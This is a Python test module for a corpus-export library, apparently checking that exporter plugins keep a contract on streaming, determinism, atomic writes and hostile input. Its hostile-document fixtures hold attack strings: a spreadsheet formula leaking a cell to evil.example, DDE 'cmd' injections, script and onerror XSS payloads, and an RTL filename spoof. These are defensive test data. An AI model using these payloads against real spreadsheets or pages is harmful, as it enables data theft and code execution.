"""A conformance kit for exporter plugins: does this class keep the contract?

Plugin authors call :func:`check_exporter` from their own test suite (the built-ins do
too). It needs no test framework: it raises :class:`ConformanceError`, an
``AssertionError`` listing every broken promise, so pytest shows them all at once::

    from corpuskit.testing import check_exporter
    from my_plugin import MyExporter

    def test_my_exporter_keeps_the_contract():
        check_exporter(MyExporter)

What is checked, and why each matters to users:

- **interface**: the class attributes and ``write`` the registry requires;
- **options**: ``Options`` is a frozen attrs class whose every field has a default and
  a ``help`` text (``corpuskit formats`` shows it), unknown keys and bad values are
  clear errors;
- **streaming**: ``write`` iterates the documents once (a second pass would re-read a
  whole corpus, or find a spent generator) and output grows while documents arrive,
  so the corpus is never collected in memory; a stream it was given stays open;
- **empty corpus**: zero documents is a valid corpus;
- **determinism**: the same documents give the same bytes (diffable, cacheable,
  reproducible builds);
- **hostile text**: NUL, lone surrogates from undecodable file names, RTL overrides,
  ``<script>``, spreadsheet formulas, a 1 MB line: no crash, text output stays valid
  UTF-8, markup output never contains a live ``<script``;
- **atomic writes**: an export that fails half-way leaves neither the target nor a
  temporary behind.
"""

from __future__ import annotations

import io
import itertools
import mimetypes
import os
import re
import tracemalloc
import zipfile
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from pathlib import Path
from typing import Any, BinaryIO, cast

import attrs

from corpuskit.edits import Edit, apply_edits
from corpuskit.errors import OptionError, PluginError
from corpuskit.exporters import Exporter, _check, parse_options, write_to
from corpuskit.model import Block, Document, DocumentWarning, Source

__all__ = [
    "ConformanceError",
    "CountingSink",
    "OneShot",
    "Output",
    "check_exporter",
    "hostile_documents",
    "iter_sample_documents",
    "make_document",
    "run_exporter",
    "sample_documents",
]

#: What an exporter wrote: the bytes of its file, or each file of its directory by
#: relative POSIX path.
Output = bytes | dict[str, bytes]


class ConformanceError(AssertionError):
    """One or more broken promises; ``failures`` holds one line per check that failed."""

    def __init__(self, exporter: str, failures: Sequence[str]) -> None:
        self.failures = list(failures)
        lines = "\n".join(f"  - {f}" for f in self.failures)
        super().__init__(f"exporter {exporter} breaks the contract:\n{lines}")


class OneShot(Iterable[Document]):
    """An iterable that can be iterated once, like a corpus being read from a pipe.

    Iterating it twice raises. ``on_pull`` is called before each document is handed
    over (the streaming check uses it to watch the output grow).
    """

    def __init__(self, documents: Iterable[Document], on_pull: Callable[[int], None] | None = None) -> None:
        self._documents = documents
        self._on_pull = on_pull
        self._used = False
        self.pulled = 0

    def __iter__(self) -> Iterator[Document]:
        if self._used:
            raise AssertionError("the documents were iterated twice; a corpus can only be read once")
        self._used = True
        return self._generate()

    def _generate(self) -> Iterator[Document]:
        for doc in self._documents:
            if self._on_pull is not None:
                self._on_pull(self.pulled)
            self.pulled += 1
            yield doc


# -- documents -----------------------------------------------------------------------


def make_document(
    paragraphs: Sequence[str],
    *,
    doc_id: str = "000_0123456789abcdef",
    name: str | None = None,
    title: str | None = None,
    authors: Sequence[str] = (),
    date: str | None = None,
    dateline: str | None = None,
    trailer: Sequence[tuple[str, str]] = (),
    path: str = "corpus.txt",
    offset: int = 0,
    typos: Mapping[str, str] | None = None,
    role: str = "document",
    metadata: Mapping[str, str] | None = None,
    warnings: Sequence[DocumentWarning] = (),
) -> Document:
    """A well-formed Document with header, body and trailer blocks, and real edits.

    The cleaned text is the blocks joined by blank lines. ``raw_text`` differs from it
    by a no-break space for the first space of each paragraph (``unicode.nbsp``) and
    by the first few whole-word ``typos`` corrections (``typo.known``; ``{wrong: right}``
    of equal length), so
    the edits are genuine: applying them to ``raw_text`` gives the cleaned text.
    """
    parts: list[tuple[str, str, str]] = []  # (kind, region, text)
    if title is not None:
        parts.append(("title", "header", title))
    if authors:
        parts.append(("byline", "header", "By " + " and ".join(authors)))
    if date is not None:
        parts.append(("date", "header", date))
    if dateline is not None:
        parts.append(("dateline", "header", dateline))
    parts += [("paragraph", "body", p) for p in paragraphs]
    parts += [(kind, "trailer", text) for kind, text in trailer]

    blocks: list[Block] = []
    pieces: list[str] = []
    pos = 0
    for kind, region, text in parts:
        if pieces:
            pieces.append("\n\n")
            pos += 2
        stripped = text.strip()
        if stripped:  # blocks are trimmed; surrounding whitespace lies between blocks
            lead = pos + len(text) - len(text.lstrip())
            blocks.append(Block(kind, region, lead, lead + len(stripped), stripped))
        pieces.append(text)
        pos += len(text)
    cleaned = "".join(pieces)

    raw = list(cleaned)
    edits: list[Edit] = []
    for block in blocks:
        if block.region == "body" and " " in block.text:
            at = block.start + block.text.index(" ")
            raw[at] = "\u00a0"
            edits.append(Edit("unicode.nbsp", at, at + 1, "\u00a0", " "))
    for wrong, right in (typos or {}).items():
        if len(wrong) != len(right):
            raise ValueError("make_document typos must keep the length")
        for m in itertools.islice(re.finditer(rf"\b{re.escape(right)}\b", cleaned), 3):  # a few suffice
            start, end = m.span()
            if all(not (e.start < end and start < e.end) for e in edits):
                raw[start:end] = wrong
                edits.append(Edit("typo.known", start, end, wrong, right))
    edits.sort(key=lambda e: e.start)
    raw_text = "".join(raw)
    assert apply_edits(raw_text, edits) == cleaned
    name = name if name is not None else doc_id + ".txt"
    index, _, key = doc_id.partition("_")
    indexed = index.isdigit() and all(c in "0123456789abcdef" for c in key) and bool(key)
    return Document(
        id=doc_id,
        name=name,
        source=Source(path=path, offset=offset, length=len(raw_text.encode("utf-8", "surrogatepass"))),
        raw_text=raw_text,
        edits=edits,
        blocks=blocks,
        title=title,
        authors=tuple(authors),
        date=date,
        dateline=dateline,
        warnings=warnings,
        index=int(index) if indexed else None,
        key=key if indexed else None,
        role=role,
        metadata=metadata,
    )


_WORDS = [
    "the", "council", "met", "on", "tuesday", "to", "discuss", "the", "budget", "and", "the", "new",
    "bridge", "across", "the", "river", "while", "residents", "said", "they", "had", "waited", "years",
]


def _paragraph(start: int, words: int) -> str:
    """``words`` words cycling through the vocabulary from ``start`` (built at C speed)."""
    k = start % len(_WORDS)
    loop = _WORDS[k:] + _WORDS[:k]
    whole, rest = divmod(words, len(loop))
    text = " ".join(loop) + " "
    return ((text * whole) + " ".join(loop[:rest])).strip().capitalize() + "."


def iter_sample_documents(count: int, *, paragraph_words: int = 40, paragraphs: int = 3) -> Iterator[Document]:
    """Like :func:`sample_documents`, built one at a time (for streaming and memory tests)."""
    for i in range(count):
        body = [_paragraph(i + p, paragraph_words) for p in range(paragraphs)]
        has_header = i % 3 != 2
        yield make_document(
            body,
            doc_id=f"{i:03d}_{i * 7919:016x}",
            title=f"Article {i}: the bridge, again" if has_header else None,
            authors=("Ann Lee", "Bo Diaz") if i % 2 == 0 else (),
            date=f"2021-03-{i % 28 + 1:02d}" if has_header else None,
            dateline="Springfield" if i % 2 else None,
            trailer=(("bio", "Ann Lee covers city hall."),) if i % 4 == 0 else (),
            path="sample.txt",
            offset=i * 1000,
            typos={"teh": "the"},
        )


def sample_documents(count: int = 5, *, paragraph_words: int = 40, paragraphs: int = 3) -> list[Document]:
    """``count`` ordinary, distinct articles (some without header fields), deterministic."""
    return list(iter_sample_documents(count, paragraph_words=paragraph_words, paragraphs=paragraphs))


HUGE_LINE_CHARS = 1 << 20


def hostile_documents() -> list[Document]:
    """Documents built to break naive exporters; each is still a valid document.

    Covers: spreadsheet formulas in every text field, ``<script>`` and markup
    terminators, RTL overrides and bidi text, NUL and other control characters, lone
    surrogates in names and paths (what ``surrogateescape`` makes of undecodable file
    names), CRLF and Unicode line separators, a BOM in the text, astral characters,
    quotes and delimiters, an empty document, a preamble record and a 1 MB line.
    """
    return [
        make_document(
            ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"],
            doc_id="000_00000000000000f0",
            title='=HYPERLINK("http://evil.example","Click")',
            authors=("=cmd|' /C calc'!A0", "@evil", "\rCR-led author"),
            dateline="\tTab-led dateline",
            trailer=(("comment", "-1 great article"), ("spam", "+Plus-led spam")),
        ),
        make_document(
            ["<script>alert(1)</script> and <img src=x onerror=alert(2)>", "]]> --> </p></body> {{ x }} ${x} %s"],
            doc_id="001_00000000000000f1",
            title="<script>alert('title')</script>",
            authors=("</title><script>alert(3)</script>",),
        ),
        make_document(
            ["\u202eevil\u202c text, مرحبا بالعالم and שלום עולם \u2066isolated\u2069", "mixed עברית and English."],
            doc_id="002_00000000000000f2",
            title="\u202egnp.exe",
        ),
        make_document(
            ["NUL \x00 here, bell \x07, escape \x1b[31m, DEL \x7f and C1 \x85 \x9b", "form\x0cfeed and \x0bvtab"],
            doc_id="003_00000000000000f3",
            title="Nul\x00title",
        ),
        make_document(
            ["A name that did not decode."],
            doc_id="004_caf\udce9",
            name="004_caf\udce9.txt",
            path="dump/\udcff\udcfe/corpus.txt",
            metadata={"origin": "caf\udce9"},
        ),
        make_document(
            [
                "windows\r\nline\r\nends and a lone\rCR",
                "line\u2028separator and paragraph\u2029separator",
                "\ufeffBOM inside",
            ],
            doc_id="005_00000000000000f5",
            title='"Quoted", with; delimiters\t|pipes| and \\backslashes\\',
        ),
        make_document(
            ["Astral 🦄𝔘𝔫𝔦𝔠𝔬𝔡𝔢 and combining e\u0301 and zero\u200bwidth", "# not a heading * not a list _x_ [a](b)"],
            doc_id="006_00000000000000f6",
            title="# Heading? **bold** `code`",
        ),
        make_document([], doc_id="007_00000000000000f7"),
        make_document(["Text before the first delimiter."], doc_id="008_preamble", role="preamble"),
        make_document(["x" * HUGE_LINE_CHARS], doc_id="009_00000000000000f9", title="A one-megabyte line"),
    ]


# -- running -------------------------------------------------------------------------


def _tree(root: Path) -> dict[str, bytes]:
    return {
        p.relative_to(root).as_posix(): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file()
    }


def _size(root: Path) -> int:
    return sum(p.stat().st_size for p in root.rglob("*") if p.is_file())


class _Probe(io.BytesIO):
    """A destination that remembers whether the exporter closed it."""

    closed_by_exporter = False

    def close(self) -> None:
        self.closed_by_exporter = True
        super().close()


def run_exporter(
    exporter: Exporter,
    documents: Iterable[Document],
    workdir: Path,
    *,
    on_pull: Callable[[int, int], None] | None = None,
) -> Output:
    """Run ``exporter`` the way ``corpuskit export`` does and return what it wrote.

    ``on_pull(i, size)`` is called before document ``i`` is handed over, with the
    number of bytes written so far.
    """
    if exporter.layout == "file":
        probe = _Probe()
        hook = None if on_pull is None else (lambda i: on_pull(i, len(probe.getbuffer())))
        exporter.write(OneShot(documents, hook), probe)
        if probe.closed_by_exporter:
            raise AssertionError("write() closed the stream it was given (detach a TextIOWrapper, do not close it)")
        return probe.getvalue()
    workdir.mkdir(parents=True, exist_ok=True)
    target = Path(workdir)
    n = 0
    while (target / f"out{n}").exists():
        n += 1
    target = target / f"out{n}"
    target.mkdir()
    hook = None if on_pull is None else (lambda i: on_pull(i, _size(target)))
    exporter.write(OneShot(documents, hook), target)
    return _tree(target)


# -- checks --------------------------------------------------------------------------

_TEXT_SUFFIXES = {".html", ".xhtml", ".htm", ".xml", ".opf", ".ncx", ".css", ".txt", ".md", ".json",
                  ".jsonl", ".csv", ".tsv", ".svg"}


def _is_text_type(media_type: str) -> bool:
    base = media_type.split(";")[0].strip().lower()
    return base.startswith("text/") or base.endswith(("json", "jsonl", "xml", "yaml", "ndjson"))


def _is_markup_type(media_type: str) -> bool:
    base = media_type.split(";")[0].strip().lower()
    return "html" in base or base.endswith("xml") or base == "text/markdown"


def _members(output: Output, media_type: str) -> Iterator[tuple[str, str, bytes]]:
    """(label, media type, bytes) of each text part of an output, zip members included."""
    if isinstance(output, dict):
        for rel, data in output.items():
            guessed = mimetypes.guess_type(rel)[0] or ""
            if Path(rel).suffix.lower() in _TEXT_SUFFIXES:
                yield rel, guessed or "text/plain", data
        return
    if output[:4] == b"PK\x03\x04":
        with zipfile.ZipFile(io.BytesIO(output)) as zf:
            for info in zf.infolist():
                if Path(info.filename).suffix.lower() in _TEXT_SUFFIXES:
                    guessed = mimetypes.guess_type(info.filename)[0] or "text/plain"
                    if info.filename.endswith((".xhtml", ".opf", ".ncx")):
                        guessed = "application/xhtml+xml"
                    yield info.filename, guessed, zf.read(info)
        return
    if _is_text_type(media_type):
        yield "the output", media_type, output


def _text_problems(output: Output, media_type: str) -> list[str]:
    problems = []
    for label, kind, data in _members(output, media_type):
        try:
            text = data.decode("utf-8")
        except UnicodeDecodeError as exc:
            problems.append(f"{label} is not valid UTF-8 ({exc.reason} at byte {exc.start})")
            continue
        if _is_markup_type(kind) and "<script" in text.lower():
            problems.append(f"{label} contains a live '<script' taken from document text (escape it)")
    return problems


def _check_interface(cls: type[Exporter]) -> list[str]:
    try:
        _check(cls, repr(getattr(cls, "name", cls)))
    except PluginError as exc:
        return [str(exc)]
    problems = []
    if not cls.description.strip():
        problems.append("description is empty (corpuskit formats shows it)")
    if not cls.media_type or "/" not in cls.media_type:
        problems.append(f"media_type {cls.media_type!r} is not a media type such as 'text/csv'")
    if cls.suffix and not cls.suffix.startswith("."):
        problems.append(f"suffix {cls.suffix!r} should start with '.'")
    return problems


def _check_options(cls: type[Exporter]) -> list[str]:
    problems = []
    defaults = cls.Options()
    fields = attrs.fields(cls.Options)
    if fields:
        try:
            setattr(defaults, fields[0].name, getattr(defaults, fields[0].name))
            problems.append("Options is not frozen (use @attrs.frozen): options must not change mid-export")
        except attrs.exceptions.FrozenInstanceError:
            pass
    for field in fields:
        if field.default is attrs.NOTHING:
            problems.append(f"option {field.name} has no default")
        if not str(field.metadata.get("help", "")).strip():
            problems.append(f"option {field.name} has no metadata={{'help': ...}} text")
    bogus = "no_such_option_xyz"
    try:
        parse_options(cls, {bogus: "1"})
        problems.append(f"an unknown option {bogus!r} was accepted")
    except OptionError as exc:
        missing = [f.name for f in fields if f.name not in str(exc)]
        if missing:
            problems.append(f"the unknown-option error does not list the valid keys {missing}: {exc}")
    for field in fields:
        if isinstance(field.default, bool):
            try:
                parse_options(cls, {field.name: "maybe"})
                problems.append(f"option {field.name} accepted 'maybe' as a boolean")
            except OptionError:
                pass
            for text, value in (("true", True), ("no", False)):
                try:
                    got = getattr(parse_options(cls, {field.name: text}), field.name)
                except OptionError as exc:
                    problems.append(f"option {field.name}={text} was refused: {exc}")
                    continue
                if got is not value:
                    problems.append(f"option {field.name}={text} gave {got!r}")
    return problems


class CountingSink(io.RawIOBase):
    """A write-only, unseekable stream that counts and discards (like a pipe to stdout)."""

    def __init__(self) -> None:
        super().__init__()
        self.size = 0

    def writable(self) -> bool:
        return True

    def write(self, data: Any) -> int:
        n = memoryview(data).nbytes
        self.size += n
        return n

    def tell(self) -> int:
        return self.size


def _peak_memory(cls: type[Exporter], options: Any, count: int, workdir: Path) -> tuple[int, int]:
    """Peak traced memory while exporting ``count`` generated documents, and their text size."""
    chars = 0

    def documents() -> Iterator[Document]:
        nonlocal chars
        for doc in iter_sample_documents(count, paragraph_words=2000, paragraphs=8):  # ~100 KB each
            chars += len(doc.raw_text)
            yield doc

    exporter = cls(options)
    tracemalloc.reset_peak()
    base = tracemalloc.get_traced_memory()[0]
    if exporter.layout == "file":
        exporter.write(OneShot(documents()), cast(BinaryIO, CountingSink()))
    else:
        target = workdir / f"memory{count}"
        target.mkdir(parents=True)
        exporter.write(OneShot(documents()), target)
    return tracemalloc.get_traced_memory()[1] - base, chars


def _check_streaming(cls: type[Exporter], options: Any, workdir: Path) -> list[str]:
    """Read once; and memory must not grow with the corpus (measured, not guessed).

    Peak memory is compared between a small and a four-times larger corpus of ~100 KB
    documents: holding the documents (or their text) costs at least the extra text,
    streaming costs nothing more. Spooling to a temporary file is fine: only memory
    counts.
    """
    try:
        run_exporter(cls(options), sample_documents(3), workdir)
    except AssertionError as exc:
        return [str(exc)]
    started = not tracemalloc.is_tracing()
    if started:
        tracemalloc.start()
    try:
        small_peak, small_chars = _peak_memory(cls, options, 4, workdir)
        big_peak, big_chars = _peak_memory(cls, options, 16, workdir)
    finally:
        if started:
            tracemalloc.stop()
    growth, extra = big_peak - small_peak, big_chars - small_chars
    if growth > extra // 4:
        return [
            f"memory grows with the corpus: peak {small_peak / 1e6:.1f} MB for {small_chars / 1e6:.1f} M characters, "
            f"{big_peak / 1e6:.1f} MB for {big_chars / 1e6:.1f} M; write each document as it arrives "
            "(spool to a temporary file if something must come first)"
        ]
    return []


def _check_empty(cls: type[Exporter], options: Any, workdir: Path) -> list[str]:
    output = run_exporter(cls(options), [], workdir)
    return [f"empty corpus: {p}" for p in _text_problems(output, cls.media_type)]


def _check_determinism(cls: type[Exporter], options: Any, workdir: Path) -> list[str]:
    docs = sample_documents(6) + hostile_documents()[:3]
    first = run_exporter(cls(options), docs, workdir)
    second = run_exporter(cls(options), docs, workdir)
    if first == second:
        return []
    if isinstance(first, dict) and isinstance(second, dict) and first.keys() != second.keys():
        return [f"two runs wrote different files: {sorted(first.keys() ^ second.keys())[:5]}"]
    return ["two runs on the same documents wrote different bytes (timestamps? set or dict order? ids?)"]


def _check_hostile(cls: type[Exporter], options: Any, workdir: Path) -> list[str]:
    output = run_exporter(cls(options), hostile_documents(), workdir)
    problems = [f"hostile text: {p}" for p in _text_problems(output, cls.media_type)]
    if not output:
        problems.append("hostile text: nothing was written for 10 documents")
    return problems


class _Crash(Exception):
    pass


def _check_atomic(cls: type[Exporter], options: Any, workdir: Path) -> list[str]:
    problems = []
    folder = workdir / "atomic"
    folder.mkdir(parents=True, exist_ok=True)
    layout = cls(options).layout  # an option may switch it (html's layout=per-document)
    target = folder / ("out" + cls.suffix if layout == "file" else "out")

    def crashing() -> Iterator[Document]:
        yield from sample_documents(3)
        raise _Crash("the reader failed half-way")

    try:
        write_to(cls(options), crashing(), target)
        problems.append("a failure while reading the documents was swallowed")
    except _Crash:
        pass
    left = sorted(p.name for p in folder.iterdir())
    if left:
        problems.append(f"a failed export left {left} behind")
    docs = sample_documents(3)
    write_to(cls(options), docs, target)
    if not target.exists():
        problems.append(f"a successful export did not create {target.name}")
    elif layout == "file":
        streamed = run_exporter(cls(options), docs, workdir)
        if target.read_bytes() != streamed:
            problems.append("writing to a path and writing to a stream gave different bytes")
    left = sorted(p.name for p in folder.iterdir() if p != target)
    if left:
        problems.append(f"a successful export left temporaries {left} behind")
    return problems


_CHECKS: dict[str, Callable[[type[Exporter], Any, Path], list[str]]] = {
    "streaming": _check_streaming,
    "empty corpus": _check_empty,
    "determinism": _check_determinism,
    "hostile text": _check_hostile,
    "atomic writes": _check_atomic,
}


def check_exporter(
    cls: type[Exporter],
    *,
    options: Mapping[str, Any] | None = None,
    workdir: str | os.PathLike[str] | None = None,
) -> list[str]:
    """Check ``cls`` against the exporter contract; return the names of the checks run.

    ``options`` (``KEY=VALUE`` strings or typed values) configure the runs, to check a
    non-default configuration too. ``workdir`` is where outputs are written (a
    temporary directory, removed afterwards, when not given). Raises
    :class:`ConformanceError` listing every failure.
    """
    import tempfile

    label = repr(getattr(cls, "name", cls))
    failures = _check_interface(cls)
    if failures:  # the rest cannot run on a class the registry would refuse
        raise ConformanceError(label, failures)
    failures += _check_options(cls)
    try:
        opts = parse_options(cls, options or {})
    except OptionError as exc:
        raise ConformanceError(label, [*failures, f"options {dict(options or {})} refused: {exc}"]) from None
    try:
        instance = cls(opts)
    except Exception as exc:  # report, do not crash the kit
        raise ConformanceError(label, [*failures, f"{cls.__name__}(options) raised {exc!r}"]) from None
    if not isinstance(cast(object, instance), Exporter):
        failures.append("an instance does not satisfy the corpuskit.Exporter protocol")
    with tempfile.TemporaryDirectory(prefix="corpuskit-check-") as tmp:
        base = Path(workdir) if workdir is not None else Path(tmp)
        for i, (title, check) in enumerate(_CHECKS.items()):
            try:
                failures += check(cls, opts, base / f"check{i}")
            except Exception as exc:  # one failing check must not hide the others
                failures.append(f"{title}: raised {exc!r}")
    if failures:
        raise ConformanceError(label, failures)
    return ["interface", "options", *_CHECKS]
